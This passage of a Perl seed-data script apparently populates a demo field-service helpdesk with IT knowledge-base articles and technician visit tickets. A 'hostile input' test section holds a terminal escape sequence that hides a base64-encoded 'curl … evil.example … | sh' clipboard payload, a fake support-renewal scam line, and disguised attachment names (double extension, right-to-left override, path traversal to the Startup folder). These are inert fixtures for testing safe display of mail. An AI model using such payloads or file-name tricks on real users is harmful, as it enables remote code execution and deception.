<li>For raw ZPL, each label format must select UTF-8 encoding with <code>^CI28</code> directly after <code>^XA</code>, for example:<br>
<code>^XA^CI28^CF0,40^FO50,50^FDMüller GmbH UK^FS^XZ</code></li>
<li>Use a scalable font that includes the characters, such as font <code>0</code>, or the printer's Unicode font if installed.</li>
<li>If the template lives in the ERP system, the customer's ERP supplier must add <code>^CI28</code>; send them the example above and a photo of the faulty label.</li>
<li>For the driver route, update to the current ZDesigner driver and use a TrueType font that contains the characters.</li>
</ol>
<h3>Verification</h3>
<p>Print a test label with <em>Müller, Straße, Größe, Café Lumière</em> from the customer's own software; all characters must be correct and the barcode must still scan.</p>
<h3>Notes</h3>
<ul><li>Barcodes (Code 128) normally only contain ASCII; do not put umlauts in barcode data.</li>
<li>Also see 'Imported vendor note: Zebra label printer calibration' for skipped labels.</li></ul>
HTML
    ],
    [
        'Café Lumière POS: restart order for till, printer and card terminal',
        'Site-specific guide for the Café Lumière branches: the order to restart the POS kit so everything reconnects.',
        <<'TEXT',
Applies to
Café Lumière Southsea and Ocean Village. Each counter has an Elo or similar touchscreen till running the POS app, an Epson TM-m30III receipt printer on the network, an integrated card terminal, and an access point in the ceiling.

When to use it
After a power cut, when the till says "Printer offline" or "Terminal not connected", or before you start any work on the counter equipment. Agree a quiet moment with the shift manager first: the café cannot take card payments while you do this.

Restart order
1. Close the POS app on the till properly (do not just turn the screen off). Make sure no sale is open.
2. Switch off the till, the receipt printer and the card terminal.
3. Check the router and access point are up: the Wi-Fi for staff should be visible and have internet.
4. Switch on the receipt printer. Wait until it finishes initialising (about 20 seconds).
5. Switch on the card terminal and wait for its idle screen.
6. Switch on the till and start the POS app. It should find the printer and terminal automatically.
7. Print a test receipt and ask the manager to run a small test card payment and refund it.

If something does not reconnect
- Printer: see 'Epson TM receipt printer offline after a power cut'. Both branches use DHCP reservations on the router; check they are still there.
- Card terminal: see 'Integrated card terminal will not pair with the till'. The acquirer's helpdesk number is on the sticker under the counter.
- Paper or cutter faults: see 'Epson TM receipt printers: paper, cutter jams and error LED'.

Site notes
- The Southsea branch has a busy lunch peak from 11:30 to 14:00. Avoid counter work then.
- Staff are not allowed to give out the POS back-office password; ask Sophie Hart (area manager) by phone.
TEXT
    ],
    [
        'Yealink desk phones: reboot loops and provisioning',
        'Yealink T4x/T5x phones that reboot, show "Network unavailable" or lose their account: what to check and in what order.',
        <<'HTML',
<p><b>Symptoms:</b> the phone restarts every few minutes, stays on "Initializing" or "Network unavailable", or boots but shows no account / "Registration failed".</p>
<h3>Check power first</h3>
<ol>
<li>Look at the switch port: a PoE port that keeps cycling points to the PoE budget or the cable. See 'PoE budget: devices rebooting or not powering up'.</li>
<li>Plug the phone into a known good port with a short patch lead. If it is stable there, test the original cable run.</li>
<li>If the switch is near its PoE budget, a colour-screen phone with a sidecar (expansion module) can tip it over.</li>
</ol>
<h3>Network and VLAN</h3>
<ul>
<li>Many sites give phones a voice VLAN via LLDP-MED or DHCP option. If the phone gets an address in the data range or none at all, check the voice VLAN on the switch port is tagged and that the phone's VLAN settings match. See 'VLANs on small-business switches: tagged, untagged and PVID'.</li>
<li>Press <b>OK</b> on the idle screen (or check Menu &gt; Status) to see the IP address, MAC and firmware.</li>
</ul>
<h3>Provisioning and account</h3>
<ol>
<li>In the phone system or the provisioning portal, check the phone's MAC address is assigned to the right extension.</li>
<li>Open the phone's web page (its IP address in a browser) and check the SIP account and server. Registration failures with "403" usually mean wrong credentials; "408"/timeout means the server is unreachable from that VLAN.</li>
<li>If a phone was moved from another site, factory reset it (Menu &gt; Advanced &gt; Reset config, admin password required; on many models a long press of <b>OK</b> also offers a reset) so it re-provisions.</li>
</ol>
<h3>Verification</h3>
<p>The phone stays registered for 15 minutes, makes an external call and receives one, and the display shows the correct extension name.</p>
<p><em>Note:</em> never factory reset a phone without checking whether its config is provisioned automatically; otherwise you lose the extension settings.</p>
HTML
    ],
    [
        'Mapped drives to the NAS missing after login',
        'Shared drive letters (S:, P:) missing or showing a red cross: checking the NAS, credentials and the mapping method.',
        <<'TEXT',
Symptoms
- The S: or P: drive shows a red cross in File Explorer, or is missing after login.
- Double-clicking the drive asks for a password, or says "The network path was not found".
- It works for some users and not others.

Causes
- The NAS is off, has a new IP address, or the PC cannot resolve its name.
- Saved credentials are out of date after a password change on the NAS.
- The drive is mapped before the network is ready (Wi-Fi laptops).
- SMB version mismatch: old NAS firmware offering only SMB1, which Windows disables.

Steps
1. Ping the NAS by name and by IP. If the name fails but the IP works, fix DNS; see 'DNS troubleshooting on site'.
2. In File Explorer type \\NAS-NAME\ and press Enter. If the shares list appears, the NAS is fine.
3. Open Credential Manager > Windows Credentials, remove old entries for the NAS, then reconnect and tick "Remember my credentials" with the user's NAS account.
4. Check how drives are mapped: Group Policy, Intune, a logon script or by hand. Fix it in that place, not by mapping by hand on one PC.
5. On laptops, enable "Always wait for the network at computer startup and logon" (Group Policy) or use a mapping that retries.
6. On Synology, check Control Panel > File Services > SMB > Advanced: minimum SMB2, maximum SMB3.
7. Remove and re-create the mapping: net use S: /delete, then net use S: \\NAS-NAME\Shared /persistent:yes

Verification
Log off and on (and restart once for laptops): the drive appears without a red cross and the user can open and save a file.

Notes
- Never map drives by IP address on sites with a DNS server; it breaks when the NAS moves.
- If the NAS itself reports problems, see 'Synology NAS: degraded storage pool and drive replacement'.
TEXT
    ],
    [
        'New laptop handover checklist',
        'Everything to check before handing a new or rebuilt laptop to the user.',
        <<'HTML',
<p>Use this list for every new or reinstalled laptop. Tick it off in the visit notes so the office knows the device is ready for billing and asset records.</p>
<h3>Before the user arrives</h3>
<ol>
<li>Record make, model and serial number; update the asset (name, warranty date from the vendor's website).</li>
<li>Enrol the device: Windows Autopilot / Intune, or join the domain, according to the customer's setup. Check it appears in the management console.</li>
<li>Run Windows Update and the vendor's update tool (BIOS, drivers, dock firmware) until nothing is left. Restart between rounds.</li>
<li>Confirm <b>BitLocker</b> is on and the recovery key is stored in Entra ID or AD: <code>manage-bde -status C:</code>. See 'BitLocker recovery key prompt on site'.</li>
<li>Check antivirus / EDR is installed and reporting to the console.</li>
<li>Install the standard software: Microsoft 365 apps, PDF reader, VPN client, and any line-of-business software the customer lists.</li>
</ol>
<h3>With the user</h3>
<ol>
<li>User signs in, sets up Windows Hello and MFA if not already done. Never ask for their password.</li>
<li>Open Outlook, Teams and OneDrive; confirm OneDrive sync and Known Folder Move.</li>
<li>Add printers and check a test print; map shared drives.</li>
<li>Test the VPN from a phone hotspot if they work remotely.</li>
<li>Connect the dock and monitors they will use.</li>
</ol>
<h3>Old device</h3>
<ul>
<li>Copy anything not in OneDrive or on the server, with the user watching.</li>
<li>Agree with the customer whether the old laptop is wiped and returned, kept as a spare, or disposed of with a data-destruction certificate.</li>
</ul>
<p>Finish with the sign-off conversation: see 'Customer sign-off etiquette'.</p>
HTML
    ],
    [
        'Finding which switch port a device is on',
        'Tracing a device to its switch port using the MAC address table, LLDP and the wall-port labels.',
        <<'TEXT',
When you need it
A device has the wrong VLAN, a duplicate IP address, or an unknown device appears on the network and nobody knows where it is plugged in.

Steps
1. Get the device's MAC address: from the device's own status page, the sticker on it, or the DHCP lease table on the router (the lease shows MAC and IP together).
2. If you only have the IP address, ping it from a PC on the same subnet and then run arp -a to see the MAC address.
3. On the core switch, search the MAC address table:
   - Cisco CBS350: show mac address-table address aa:bb:cc:dd:ee:ff
   - Aruba Instant On and Netgear: the web interface has a MAC address table page with a search box.
4. If the MAC appears on an uplink port, it is behind another switch or AP. Go to that switch and repeat.
5. If it appears on an access port, follow the patch lead from that port to the patch panel, then to the wall port using the labels. LLDP neighbour information on the switch can name phones and APs directly.
6. Wi-Fi devices show up on the uplink of the AP they use; look them up in the Wi-Fi controller instead.

Verification
Unplug or shut down the port only with the customer's agreement, and confirm the device goes offline. Re-enable it afterwards unless the customer wants it blocked.

Notes
- Update the port labels and the site's network documentation while you are there.
- MAC addresses of phones with randomised Wi-Fi addresses change; ask the user to turn off "private address" for the staff network if you need to track them.
- Faulty wall points: see 'Network cable testing and RJ45 termination'.
TEXT
    ],
    [
        'Müller GmbH UK: site access, PPE and machine hall rules',
        'Site-specific induction for Müller Präzisionstechnik UK (Segensworth): access, PPE, machine hall and network notes.',
        <<'TEXT',
About the site
Müller GmbH UK is the UK branch of a German precision engineering firm. The Segensworth unit has offices on the first floor, a goods-in/shipping area, and a machine hall with CNC machines. German colleagues often work on the same systems remotely from Stuttgart; some equipment labels and documentation are in German.

Access
1. Report to reception on the ground floor and sign in. Ask for Katrin Bäcker (office and IT coordinator); if she is out, the shift lead in the machine hall can authorise access.
2. You will get a visitor badge. Return it when you leave.
3. The comms cabinet is in the first-floor store room; the key is kept at reception.

PPE and machine hall rules
- Safety shoes and a hi-vis vest are required beyond the yellow line in the machine hall. Bring your own safety boots; vests are provided.
- Safety glasses near running machines. No loose clothing, lanyards or jewellery near spindles.
- Never touch machine controls or the CNC network switches inside machine cabinets without the shift lead present. Some machines run unattended jobs for hours: unplugging a network cable can stop a job worth thousands of pounds.
- Forklifts operate in goods-in. Use the marked walkways.

Network notes
- The CNC machines are on their own VLAN, separate from the office network; see 'VLANs on small-business switches: tagged, untagged and PVID'. Changes are agreed with Katrin and the German IT team first.
- Shipping labels are printed on a Zebra ZD421t in goods-in; umlaut problems: see 'Zebra labels: umlauts and ß print as question marks'.

Before you leave
Tell reception and Katrin what you changed. Record any machine downtime in the visit notes, with the shift lead's name.
TEXT
    ],
);

# ---------------------------------------------------------------------------
# Field visits.  Keys:
#   subject, owner (user name or '' for unassigned), requestor (email), site,
#   address, contact, priority (0-100), status (new/open/stalled/resolved),
#   day (visit day relative to today; undef = not scheduled yet),
#   start (hour, UTC), hours (visit length), due_hours (SLA due, hours from
#   now; may be negative = overdue), age_hours (opened this long ago; default
#   72 - due_hours, at least 2: a three-day SLA), assets (names from @ASSETS),
#   body (the customer's request), history: [ kind, who, text, minutes, files ]
#   where kind is 'comment' (internal), 'correspond' (to the customer) or
#   'mail' (the customer's mail as received, recorded without sending
#   notifications: RT's own HTML-to-text takes seconds over hostile HTML, and
#   a 21 MB file would go out with each), who is a user name ('customer' = the
#   requestor) and files (optional) are [ file name, type, bytes ].
# Rights: a technician may only write on visits they own, so `who` is the
# owner, 'supervisor' or 'customer'.  A correspond re-opens a 'new' ticket
# (RT's "On Correspond Open Inactive Tickets" scrip), so 'new' visits only
# carry internal comments.
my @VISITS = (

    # ----- alice --------------------------------------------------------
    {
        subject   => 'Front-desk printer jams on every second page',
        visit_type => 'Printer preventive maintenance',
        owner     => 'alice',
        requestor => 'reception@acme-dental.example',
        site      => 'Acme Dental Clinic',
        address   => "12 Harbour Street\nPortsmouth\nPO1 3AX",
        contact   => 'Julie Marsh, +44 23 9200 1234, reception@acme-dental.example',
        priority  => 60,
        status    => 'open',
        day       => 0,
        start     => 9,
        hours     => 1.5,
        due_hours => 6,
        assets    => ['ACME-PRN-01'],
        body      => "Our reception printer is jamming again, on nearly every second page since Monday.\nThe screen says 13.B2.D1 and the pages that do come out are creased at the back.\nThis is the third time in about two months. We print appointment letters and lab forms all day, please can someone come today?\nJulie Marsh, Reception",
        history   => [
            [ 'correspond', 'supervisor', "Hello Julie,\n\nSorry to hear the printer is jamming again. Alice Moreau will visit at 9:00 on the day we booked, and will bring a replacement fuser and rollers so it can be fixed in one visit.\n\nKind regards,\nDana Whitfield\nFieldDesk Services", 0 ],
            [ 'comment', 'supervisor', "Third jam call on ACME-PRN-01 in about 60 days (Carol 7-8 weeks ago, Bob 3 weeks ago). Printer is under HP warranty until 03/2027: if the fuser is faulty, log an HP case rather than fitting one from our stock.", 5 ],
            [ 'comment', 'alice', "Remote check via the EWS: 13.B2.D1 x14 in the event log since Bob's visit, page count 48,210. Bringing fuser kit and Tray 2 roller kit. Following KB 'HP LaserJet M404/M428: recurring jams, rollers and fuser'.", 10 ],
            [ 'correspond', 'customer', "Thanks Dana, we will be in from 8:30. Please use the staff entrance at the side; reception opens to patients at 9:15.\nJulie", 0 ],
        ],
    },
    {
        subject   => 'Receipt printer cuts half way, error light flashing',
        owner     => 'alice',
        requestor => 'sophie.hart@cafe-lumiere.example',
        site      => 'Café Lumière Southsea',
        address   => "45 Marmion Road\nSouthsea, Portsmouth\nPO5 2AT",
        contact   => 'Sophie Hart, +44 23 9200 4417, sophie.hart@cafe-lumiere.example',
        priority  => 70,
        status    => 'open',
        day       => 0,
        start     => 11,
        hours     => 1,
        due_hours => 3,
        assets    => ['CLS-RCP-01'],
        body      => "The receipt printer on the main counter is not cutting receipts any more. It cuts half way and then the red light flashes.\nThis morning the lid would not open at all.\nWe are using the old printer from the back office but it is very slow.\nCan someone come before the lunch rush please?\nSophie Hart, Area Manager",
        history   => [
            [ 'correspond', 'supervisor', "Hello Sophie,\n\nAlice will be with you at 11:00. If the lid is still stuck, please switch the printer off and on once; that often brings the cutter back to its resting position.\n\nKind regards,\nDana", 0 ],
            [ 'correspond', 'customer', "Switched it off and on, the lid opens now but it still only cuts half way. There are little bits of paper stuck near the blade.\nSophie", 0 ],
            [ 'comment', 'alice', "Epson warranty on CLS-RCP-01 expired 09/2025, so no Epson swap. Bringing a spare TM-m30III from stock in case the cutter is damaged. Lunch peak starts 11:30: do the counter work first.", 5 ],
        ],
    },
    {
        subject   => 'Reception phone keeps rebooting, patients cut off',
        visit_type => 'Network cabinet check',
        owner     => 'alice',
        requestor => 'practice.manager@elmgrove-surgery.example',
        site      => 'Elmgrove Medical Practice',
        address   => "140 Elm Grove\nSouthsea, Portsmouth\nPO5 1LR",
        contact   => 'Karen Doyle, +44 23 9200 6602, practice.manager@elmgrove-surgery.example',
        priority  => 80,
        status    => 'open',
        day       => 0,
        start     => 14,
        hours     => 1.5,
        due_hours => -2,
        assets    => [ 'EGS-PH-04', 'EGS-SW-01' ],
        body      => "The phone at the front reception desk (ext 201) keeps restarting on its own, three or four times an hour since yesterday afternoon.\nPatients phoning in are being cut off mid-call.\nThe other phones seem fine, except the nurse room phone went off once this morning.\nThe only change we know of is that the contractor added a new camera in the car park on Tuesday.\nKaren Doyle, Practice Manager",
        history   => [
            [ 'correspond', 'supervisor', "Hello Karen,\n\nThank you, we are treating this as urgent. Alice will visit this afternoon at 14:00. In the meantime you can divert ext 201 to the back office phone (ext 205) so calls are not lost.\n\nDana", 0 ],
            [ 'comment', 'supervisor', "Response SLA breached (4 h for phones down at a GP surgery). Suspect PoE budget on EGS-SW-01 since the car park camera was added. Carol is booked to add two phones in the new nurse room: sort the budget first, that visit may need an injector or a bigger switch.", 5 ],
            [ 'comment', 'alice', "Remote look at the Netgear: PoE 183 W used of 190 W, port 3 (reception phone) cycling between Delivering and Searching. New camera on port 22 is PoE+ with IR heater. Plan: port priorities (phones High), PoE off on PC/printer ports, separate injector for the camera. KB 'PoE budget: devices rebooting or not powering up'.", 15 ],
            [ 'correspond', 'customer', "Divert is on, thanks. The practice is quietest between 13:00 and 14:30 if you need to unplug anything.\nKaren", 0 ],
        ],
    },
    {
        subject   => 'Partner laptop: both monitors blank on docking station',
        owner     => 'alice',
        requestor => 'm.osei@hartleyfinch.example',
        site      => 'Hartley & Finch Solicitors',
        address   => "3 Carlton Crescent\nSouthampton\nSO15 2EY",
        contact   => 'Margaret Osei, +44 23 8049 6210, m.osei@hartleyfinch.example',
        priority  => 50,
        status    => 'open',
        day       => 1,
        start     => 9.5,
        hours     => 1,
        due_hours => 26,
        assets    => [ 'HFS-LT-07', 'HFS-DK-07' ],
        body      => "Mr Finch's laptop does not show anything on his two monitors when it is on the docking station.\nIt charges and the keyboard works, but both screens say 'No signal'.\nIt was fine until Windows did an update last week.\nHe is in court later this week and needs it working before then.\nMargaret Osei, Office Manager",
        history   => [
            [ 'correspond', 'supervisor', "Hello Margaret,\n\nAlice will come tomorrow at 9:30. Please ask Mr Finch to leave the laptop docked with the power adapter connected overnight so updates can be checked first thing.\n\nDana", 0 ],
            [ 'correspond', 'customer', "Will do. He arrives at 10, you can start without him; the laptop will be on his desk in room 4.\nMargaret", 0 ],
            [ 'comment', 'alice', "Dock WD19S out of warranty (04/2026), laptop covered to 2028. Run Dell Command Update first (BIOS + dock firmware); suspend BitLocker before the BIOS update. Taking a spare WD19S in case the dock is dead.", 5 ],
        ],
    },
    {
        subject   => 'X-ray image share very slow, server box beeping',
        owner     => 'alice',
        requestor => 'priya.nair@acme-dental.example',
        site      => 'Acme Dental Clinic',
        address   => "12 Harbour Street\nPortsmouth\nPO1 3AX",
        contact   => 'Dr Priya Nair, +44 23 9200 1235, priya.nair@acme-dental.example',
        priority  => 65,
        status    => 'new',
        day       => 1,
        start     => 13,
        hours     => 2,
        due_hours => 30,
        assets    => ['ACME-NAS-01'],
        body      => "The X-ray image folder on the server has been very slow all week and the server box in the cupboard beeps every few minutes.\nThe orange light on the front is flashing.\nWe have not switched it off in case that makes it worse.\nPlease advise, we can't work without the X-ray images.\nDr Priya Nair",
        history   => [
            [ 'comment', 'supervisor', "Phoned Dr Nair: asked her not to power off the NAS. DSM alert says drive 2 'Failing', storage pool degraded. NAS warranty expired 02/2026. Ordered one 4 TB WD Red Plus (same as installed), due tomorrow morning.", 10 ],
            [ 'comment', 'alice', "Check Hyper Backup (USB and C2 jobs) BEFORE swapping anything. Portal shows last C2 success 3 days ago: run a manual backup of the xray share first, then replace drive 2 per KB 'Synology NAS: degraded storage pool and drive replacement'.", 5 ],
        ],
    },
    {
        subject   => 'Year 5 classroom Wi-Fi drops during lessons',
        owner     => 'alice',
        requestor => 'bursar@westbrook-primary.example',
        site      => 'Westbrook Primary School',
        address   => "Westbrook Lane\nCowplain, Waterlooville\nPO8 9HJ",
        contact   => 'Gareth Price, +44 23 9200 7781, bursar@westbrook-primary.example',
        priority  => 55,
        status    => 'open',
        day       => 2,
        start     => 8.5,
        hours     => 2.5,
        due_hours => 50,
        assets    => ['WPS-AP-03'],
        body      => "Year 5 (classroom 9) keeps losing Wi-Fi during lessons. The teacher's laptop and about half the pupils' Chromebooks drop off for a minute and then come back.\nIt is worst in the afternoons. Year 4 next door is fine.\nWe have a Chromebook assessment in two weeks so we need it sorted.\nGareth Price, School Business Manager",
        history   => [
            [ 'correspond', 'supervisor', "Dear Mr Price,\n\nAlice Moreau will visit from 8:30 to survey classrooms 8 to 10 before the pupils arrive, and then observe the network during the first lesson.\n\nKind regards,\nDana Whitfield", 0 ],
            [ 'correspond', 'customer', "Thank you. Please sign in at the office and wear the visitor lanyard; staff will be expecting you.\nGareth", 0 ],
            [ 'comment', 'alice', "Instant On portal: AP22 in classroom 9 is on 5 GHz channel 100 (DFS) at 80 MHz; 3 radar detections logged yesterday afternoon, each followed by a channel change and mass disconnect. Plan: non-DFS channel, 40 MHz, re-check neighbours. KB 'Wi-Fi channel planning for small sites'.", 20 ],
        ],
    },
    {
        subject   => 'Handheld scanners lose Wi-Fi in aisles 8 and 9',
        owner     => 'alice',
        requestor => 'dave.kerridge@solent-logistics.example',
        site      => 'Solent Logistics',
        address   => "Unit 7, Nelson Industrial Park\nHedge End, Southampton\nSO30 2JH",
        contact   => 'Dave Kerridge, +44 23 8049 6455, dave.kerridge@solent-logistics.example',
        priority  => 40,
        status    => 'new',
        day       => 3,
        start     => 10,
        hours     => 3,
        due_hours => 74,
        assets    => ['SOL-AP-02'],
        body      => "Our pickers' handheld scanners lose the Wi-Fi at the far end of aisles 8 and 9 (high racking) and have to be rebooted.\nWe added two more rows of racking last month.\nCan you survey it and tell us if we need another access point?\nDave Kerridge, Warehouse Manager",
        history   => [
            [ 'comment', 'supervisor', "Survey visit, 3 hours; quote for an extra AP depends on the result. Dave says aisle 9 is full of tinned goods (metal). Hi-vis and safety boots required on the warehouse floor.", 5 ],
            [ 'comment', 'alice', "Scanners are Zebra TC21s per Dave. Check whether 802.11r is on: older TC firmware roamed badly with FT enabled. Bringing the survey laptop and a spare U6-Pro on a tripod for an AP-on-a-stick test.", 10 ],
        ],
    },
    {
        subject   => 'New starter laptop setup, BitLocker recovery prompt',
        visit_type => 'PC install',
        owner     => 'alice',
        requestor => 'k.baecker@mueller-uk.example',
        site      => 'Müller GmbH UK',
        address   => "Unit 3, Segensworth Business Park\nFareham\nPO15 5RQ",
        contact   => 'Katrin Bäcker, +44 1489 960 221, k.baecker@mueller-uk.example',
        priority  => 30,
        status    => 'new',
        day       => 4,
        start     => 15,
        hours     => 1.5,
        due_hours => 100,
        assets    => ['MUL-LT-02'],
        body      => "We have a new starter in Engineering next Monday. Please prepare his laptop (ThinkPad T14, already delivered) with our standard software and the CAD viewer.\nAlso, the laptop asked for a 'BitLocker recovery key' when we switched it on to check it had arrived. We did not do anything else.\nViele Grüße,\nKatrin Bäcker",
        history   => [
            [ 'comment', 'supervisor', "Laptop was pre-enrolled in Autopilot by the Stuttgart IT team; the recovery prompt is probably from the TPM being cleared at the reseller. Key should be in Entra ID and Katrin has Helpdesk admin. Do NOT reinstall without checking with Katrin/Stuttgart first.", 10 ],
            [ 'comment', 'alice', "Will follow KB 'New laptop handover checklist' and 'BitLocker recovery key prompt on site'. Need the CAD viewer installer location from Stuttgart (ask Katrin).", 0 ],
        ],
    },
    {
        subject   => 'Card terminal will not connect to till after update',
        owner     => 'alice',
        requestor => 'hannah@tideandtrail.example',
        site      => 'Tide & Trail Outdoor',
        address   => "88 Commercial Road\nPortsmouth\nPO1 1EJ",
        contact   => 'Hannah Briggs, +44 23 9200 3390, hannah@tideandtrail.example',
        priority  => 75,
        status    => 'resolved',
        day       => -1,
        start     => 8,
        hours     => 1.5,
        due_hours => -18,
        assets    => [ 'TTO-PED-01', 'TTO-POS-01' ],
        body      => "Since the till software updated on Sunday night the card machine won't connect to the till. The till says 'PED not found'.\nWe are keying amounts into the card machine by hand and writing the sales down, which is a mess at busy times.\nHannah Briggs, Store Manager",
        history   => [
            [ 'correspond', 'supervisor', "Hello Hannah,\n\nAlice will visit tomorrow at 8:00, before the shop opens at 9. Please make sure someone with the till manager password is there.\n\nDana", 0 ],
            [ 'comment', 'alice', "The update reset the payment integration settings, and the terminal had a new DHCP address (.117) after the router rebooted; the till expected 192.168.1.50. Added a DHCP reservation .50 for the terminal's MAC, re-entered terminal ID and port in the till, restarted the POS app. Test sale and refund OK (Hannah ran her own card).", 75 ],
            [ 'correspond', 'alice', "Hello Hannah,\n\nThe card terminal is connected to the till again. The till update had reset its payment settings, and the terminal had also picked up a new network address. I have fixed the address so it cannot change again and re-entered the settings.\n\nIf it happens after a future update, please call us before re-pairing anything.\n\nThanks for having someone in early,\nAlice", 10 ],
            [ 'correspond', 'customer', "Brilliant, all working this morning. Thanks Alice!\nHannah", 0 ],
        ],
    },
    {
        subject   => 'Receptionist gets a temporary profile at login',
        owner     => 'alice',
        requestor => 'neil@bramleycole.example',
        site      => 'Bramley Cole Accountants',
        address   => "21 West Street\nFareham\nPO16 0BG",
        contact   => 'Neil Bramley, +44 1329 960 418, neil@bramleycole.example',
        priority  => 45,
        status    => 'stalled',
        day       => -3,
        start     => 11,
        hours     => 2,
        due_hours => -50,
        assets    => ['BCA-DT-03'],
        body      => "Sarah on reception logs in and gets a message that she is signed in with a temporary profile. Her desktop is empty and Outlook wants setting up again.\nShe restarted twice, no change.\nPlease can you look urgently, she can't get to her client files.\nNeil Bramley, Partner",
        history   => [
            [ 'comment', 'alice', "ProfileList had SID and SID.bak; NTUSER.DAT unreadable, disk errors in the System log since the power cut on Friday. chkdsk repaired errors but the old profile would not load. Created a new profile and copied Desktop, Documents, Outlook signatures and Chrome bookmarks; old folder kept as C:\\Users\\sarah.old.", 110 ],
            [ 'correspond', 'alice', "Hello Neil,\n\nSarah can log in normally again and has her documents and email. Her old profile was damaged after last Friday's power cut, so I set up a fresh one and copied her files across.\n\nSarah will check over the next few days whether any files or shortcuts are missing. I will close this once she confirms.\n\nAlice", 10 ],
            [ 'comment', 'alice', "Stalled: waiting for Sarah to confirm nothing is missing (Sage shortcuts?). ProDesk out of warranty since 03/2026 and SMART shows reallocated sectors: recommend SSD replacement, quote requested from the office.", 15 ],
            [ 'comment', 'supervisor', "Quote for SSD and reimage sent to Neil. Keep stalled until he replies.", 5 ],
        ],
    },

    # ----- alice: hostile input, so the demo shows it handled -------------
    # Real mail carries all of this: HTML that freezes a renderer (400 tables
    # inside each other, 5 000 nested divs, a word of 20 000 letters), links
    # whose text names the helpdesk but lead elsewhere, terminal escape
    # sequences, markup in a subject, a pasted log too long to show at once,
    # attachments that are programs in disguise and one larger than the
    # automatic download limit (20 MB).  Days 5 and 6 at a site of their own,
    # so today's and tomorrow's visits and the other sites stay as they are.
    {
        subject   => 'Reception PC freezes on a <table> newsletter & "Pay now" mail',
        owner     => 'alice',
        requestor => 'office@quayside-print.example',
        site      => 'Quayside Print & Copy',
        address   => "2 Camber Quay\nOld Portsmouth\nPO1 2AB",
        contact   => 'Tom Reyes, +44 23 9200 8810, office@quayside-print.example',
        priority  => 45,
        status    => 'open',
        day       => 5,
        start     => 10,
        hours     => 1.5,
        due_hours => 122,
        assets    => [],
        body      => "Since yesterday the reception PC freezes whenever someone opens a newsletter in Outlook. I am forwarding it.\nTom",
        history   => [
            [ 'mail', 'customer', _hostile_newsletter(), 0 ],
            [ 'comment', 'supervisor', "The customer's mail above is the one that froze their PC (and our old helpdesk viewer). Do not click its links; it is here so you can see it on site.", 0 ],
            [ 'mail', 'customer', "Printer status after the reset:\n\e]0;FieldDesk: session expired, run fielddesk login\a\e]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9wd24gfCBzaA==\aAll jobs printed fine.\rPLEASE CALL +44 20 7946 0999 TO RENEW YOUR SUPPORT CONTRACT\e[2K\nTom", 0 ],
            [ 'mail', 'customer', _pasted_event_log(), 0 ],
        ],
    },
    {
        subject   => 'Scans, an invoice and a "printer fix" tool sent by the customer',
        owner     => 'alice',
        requestor => 'office@quayside-print.example',
        site      => 'Quayside Print & Copy',
        address   => "2 Camber Quay\nOld Portsmouth\nPO1 2AB",
        contact   => 'Tom Reyes, +44 23 9200 8810, office@quayside-print.example',
        priority  => 40,
        status    => 'new',
        day       => 6,
        start     => 13,
        hours     => 1,
        due_hours => 150,
        assets    => [],
        body      => "Hi,\nthe printer company mailed us scans of the delivery notes, an invoice and a tool to fix the printer. I am forwarding them.\nTom",
        history   => [
            [
                'mail', 'customer', "Here they are. Can you run the fix on the reception PC when you come?\nTom", 0,
                [
                    [ 'scan-0042.pdf', 'application/pdf', _pdf( 'Delivery note 0042', 0 ) ],
                    [ 'delivery-notes-march.pdf', 'application/pdf', _pdf( 'Delivery notes, March (scanned)', 21 * 1024 * 1024 ) ],
                    [ 'invoice.pdf.exe', 'application/octet-stream', "MZ (sample: not a real program)\n" ],
                    [ 'Quarterly report.lnk', 'application/octet-stream', "L (sample shortcut)\n" ],
                    [ 'update.hta', 'application/hta', "<html><!-- sample: an HTML application would run here --></html>\n" ],
                    [ 'printer-fix.desktop', 'application/x-desktop', "[Desktop Entry]\nType=Application\nName=Printer fix (sample)\nExec=true\n" ],
                    [ "..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat", 'application/x-bat', "rem sample: a batch file aimed at the Startup folder\n" ],
                    [ "contract-\x{202E}fdp.exe", 'application/octet-stream', "MZ (sample: right-to-left trick, really .exe)\n" ],
                ],
            ],
            [ 'comment', 'supervisor', "Do NOT run the 'fix' tool or open the .exe/.lnk/.hta: the printer company never sent them. Check the PC for anything else from that mail.", 0 ],
        ],
    },

    # ----- bob ----------------------------------------------------------
    {
        subject   => 'Despatch label printer printing faded, couriers rejecting parcels',
        visit_type => 'Printer preventive maintenance',
        owner     => 'bob',
        requestor => 'dave.kerridge@solent-logistics.example',
        site      => 'Solent Logistics',
        address   => "Unit 7, Nelson Industrial Park\nHedge End, Southampton\nSO30 2JH",
        contact   => 'Dave Kerridge, +44 23 8049 6455, dave.kerridge@solent-logistics.example',
        priority  => 75,
        status    => 'open',
        day       => 0,
        start     => 8,
        hours     => 2,
        due_hours => 4,
        assets    => ['SOL-LBL-01'],
        body      => "The big Zebra in despatch has been printing faded labels since the new ribbon went in.\nThe courier's scanners at collection are rejecting about one in five parcels.\nCollection is at 15:00 every day so we need this fixed before then.\nDave Kerridge",
        history   => [
            [ 'correspond', 'supervisor', "Hello Dave,\n\nBob Okafor will be with you first thing at 8:00. Please keep a few of the faded labels for him to look at.\n\nDana", 0 ],
            [ 'comment', 'bob', "Same printer as the ribbon-out call 9 days ago. Dave says the new ribbon rolls are a different (cheaper, wax) brand; the labels are polypropylene, so wax ribbon is unsuitable. Bringing 2 rolls of wax/resin 110 mm x 450 m and cleaning pens.", 10 ],
            [ 'correspond', 'customer', "We've kept the old ribbons aside for you. Please report to goods-in, not the office.\nDave", 0 ],
        ],
    },
    {
        subject   => 'Guest Wi-Fi login page not appearing on iPhones',
        owner     => 'bob',
        requestor => 'ops@solentviewhotel.example',
        site      => 'Solent View Hotel',
        address   => "10 Western Esplanade\nSouthampton\nSO14 2AZ",
        contact   => 'Marco Rossi, +44 23 8049 6733, ops@solentviewhotel.example',
        priority  => 85,
        status    => 'open',
        day       => 0,
        start     => 13,
        hours     => 2,
        due_hours => -1,
        assets    => [ 'SVH-FW-01', 'SVH-AP-12' ],
        body      => "Several guests have complained that the guest Wi-Fi login page does not appear. They connect to 'SolentView-Guest' and the phone says no internet.\nIt seems to be mainly iPhones.\nWe have a wedding party of 80 checking in this afternoon.\nMarco Rossi, Operations Manager",
        history   => [
            [ 'correspond', 'supervisor', "Hello Marco,\n\nBob will visit today at 13:00. As a workaround, reception can give guests the password of the 'SolentView-Events' network used for yesterday's conference.\n\nDana", 0 ],
